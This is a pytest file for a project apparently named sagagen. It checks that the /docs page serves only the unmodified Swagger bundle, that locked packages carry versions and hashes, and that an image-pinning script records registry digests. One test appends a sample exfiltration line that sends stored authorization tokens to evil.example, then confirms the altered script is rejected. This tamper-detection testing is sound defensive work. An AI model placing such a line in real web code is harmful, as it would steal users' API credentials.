"""What others made is what was looked at: the page /docs, and what an image is made of."""

import os
import re
import subprocess
from importlib.util import find_spec
from pathlib import Path

import pytest

from sagagen.runtime.edge.docs_page import checked
from sagagen.runtime.edge.problem import ProblemError

ROOT = Path(__file__).parents[2]


def test_the_page_that_takes_tokens_runs_swaggers_own_code_alone() -> None:
    package = find_spec("offapi")
    assert package is not None
    assert package.origin is not None
    script = Path(package.origin).with_name("swagger_bundle.js").read_bytes()
    assert checked("swagger_bundle.js", script) == script
    with pytest.raises(ProblemError, match="DOCS_UNKNOWN"):
        checked("swagger_bundle.js", script + b"fetch('//evil.example?' + localStorage.authorized)")


def test_each_package_of_the_image_has_a_version_and_hashes() -> None:
    """And they are those of constraints.txt, which the tests run with."""
    entries = re.split(r"\n(?=[a-z])", (ROOT / "requirements.lock").read_text().lower())[1:]
    assert len(entries) > 30
    tested = set((ROOT / "constraints.txt").read_text().lower().replace("-", "_").splitlines())
    for entry in entries:
        pin = entry.split()[0]
        assert re.fullmatch(r"[a-z0-9._-]+(\[\w+\])?==\S+", pin), pin
        assert "--hash=sha256:" in entry, pin
        assert ";" in entry.splitlines()[0] or re.sub(r"\[\w+\]", "", pin).replace("-", "_") in tested, pin


DOCKER = """#!/bin/sh
for image; do :; done
case "$image" in
  python:*) printf '"sha256:%064d"\\n' 1 ;;
  *) printf '"sha256:%064d"\\n' 2 ;;
esac
"""


def test_base_images_get_the_digests_that_their_registries_tell(tmp_path: Path) -> None:
    folder = tmp_path / "generated" / "deploy"
    folder.mkdir(parents=True)
    compose = (ROOT / "generated" / "deploy" / "compose.yaml").read_text()
    (folder / "compose.yaml").write_text(compose)
    (tmp_path / ".env").write_text("SAGAGEN_SOURCE=.\nREDIS_IMAGE=old\n")
    docker = tmp_path / "bin" / "docker"
    docker.parent.mkdir()
    docker.write_text(DOCKER)
    docker.chmod(0o755)
    environment = {**os.environ, "PATH": f"{docker.parent}:{os.environ['PATH']}"}
    tool = ["sh", ROOT / "generated" / "deploy" / "pin_images.sh"]
    for _ in range(2):
        subprocess.run(tool, cwd=tmp_path, env=environment, check=True, capture_output=True)
    lines = (tmp_path / ".env").read_text().splitlines()
    assert lines[0] == "SAGAGEN_SOURCE=."
    assert f"PYTHON_IMAGE=python:3.13-slim@sha256:{1:064d}" in lines
    assert f"REDIS_IMAGE=redis:8.2-alpine@sha256:{2:064d}" in lines
    assert len(lines) == 1 + 6

    docker.write_text("#!/bin/sh\necho 'no such image' >&2\nexit 1\n")
    before = (tmp_path / ".env").read_text()
    failed = subprocess.run(tool, cwd=tmp_path, env=environment, check=False, capture_output=True, text=True)
    assert failed.returncode != 0
    assert (tmp_path / ".env").read_text() == before
